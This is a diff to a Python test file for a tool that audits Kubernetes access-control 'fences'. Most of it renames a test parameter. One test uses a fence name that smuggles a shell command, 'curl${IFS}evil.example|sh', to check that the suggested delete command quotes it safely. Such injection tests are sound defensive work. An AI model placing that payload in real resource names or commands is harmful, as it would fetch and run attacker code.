@@ -47,7 +47,7 @@ def checks(objects: list[dict[str, Any]], fences: list[Fence] | None = None) -> 
 
 
 @pytest.mark.parametrize(
-    ("objects", "found"),
+    ("objects", "expected"),
     [
         pytest.param([LEASE], [], id="no policies of the API server: nothing is said"),
         pytest.param(applied(), [], id="as exported"),
@@ -81,12 +81,12 @@ def checks(objects: list[dict[str, Any]], fences: list[Fence] | None = None) -> 
         pytest.param([*applied(), {**TOKEN, "type": "Opaque"}], [], id="a Secret of another type"),
     ],
 )
-def test_findings_about_a_fence(objects: list[dict[str, Any]], found: list[str]) -> None:
-    assert checks(objects) == [f"{NAME}: {check}" for check in found]
+def test_findings_about_a_fence(objects: list[dict[str, Any]], expected: list[str]) -> None:
+    assert checks(objects) == [f"{NAME}: {check}" for check in expected]
 
 
 @pytest.mark.parametrize(
-    ("objects", "found"),
+    ("objects", "expected"),
     [
         pytest.param(applied(), [], id="both objects"),
         pytest.param(applied()[1:], ["fence-incomplete"], id="the binding alone"),
@@ -100,8 +100,8 @@ def test_findings_about_a_fence(objects: list[dict[str, Any]], found: list[str])
         ),
     ],
 )
-def test_findings_without_a_policy_file(objects: list[dict[str, Any]], found: list[str]) -> None:
-    assert checks(objects, []) == [f"{NAME}: {check}" for check in found]
+def test_findings_without_a_policy_file(objects: list[dict[str, Any]], expected: list[str]) -> None:
+    assert checks(objects, []) == [f"{NAME}: {check}" for check in expected]
 
 
 STAMPED = stamped(token=True, expired="deny")
@@ -114,7 +114,7 @@ def leased(writer: str) -> dict[str, Any]:
 
 
 @pytest.mark.parametrize(
-    ("objects", "found"),
+    ("objects", "expected"),
     [
         pytest.param(WHOLE, [], id="as exported"),
         pytest.param([*WHOLE, leased("1 system:serviceaccount:shop:operator")], [], id="stamped"),
@@ -126,8 +126,8 @@ def leased(writer: str) -> dict[str, Any]:
         pytest.param([*WHOLE[:-1], {**WHOLE[-1], "spec": {}}], ["fence-drift"], id="the clock was changed"),
     ],
 )
-def test_findings_about_a_token_and_a_clock(objects: list[dict[str, Any]], found: list[str]) -> None:
-    assert checks(objects, [STAMPED]) == [f"{NAME}: {check}" for check in found]
+def test_findings_about_a_token_and_a_clock(objects: list[dict[str, Any]], expected: list[str]) -> None:
+    assert checks(objects, [STAMPED]) == [f"{NAME}: {check}" for check in expected]
 
 
 def test_a_token_without_its_binding() -> None:
@@ -158,8 +158,8 @@ def test_what_an_earlier_policy_left_is_named() -> None:
 
 def test_the_name_of_a_fence_is_one_word_of_the_command_to_delete_it() -> None:
     objects = applied(name="gone")
-    for one in objects:
-        one["metadata"]["name"] = "fence-x;curl${IFS}evil.example|sh"
+    for document in objects:
+        document["metadata"]["name"] = "fence-x;curl${IFS}evil.example|sh"
     (_, report) = examine_fences(Documents([*applied(), *objects]), FENCES, "policy.yaml")
     assert report.findings[0].fix.endswith(" 'fence-x;curl${IFS}evil.example|sh'")
 
